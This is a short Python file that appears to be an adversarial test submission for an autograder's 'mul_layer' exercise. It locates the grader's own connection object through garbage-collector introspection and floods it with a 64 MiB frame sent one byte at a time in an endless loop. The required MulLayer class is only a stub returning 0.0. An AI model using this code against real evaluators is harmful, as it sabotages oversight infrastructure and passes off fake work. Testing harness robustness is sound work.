"""Sends the largest frame that is allowed, a byte at a time."""
# %% mul_layer
import gc
from student import wire

ours = [thing for thing in gc.get_objects() if isinstance(thing, wire.Wire)][0]

import struct
import time

ours.end.sendall(struct.pack(">I", 64 * 2**20))
while True:
    ours.end.sendall(b"\0")
    time.sleep(0.01)


class MulLayer:
    def forward(self, x, y):
        return 0.0

    def backward(self, dout):
        return 0.0, 0.0
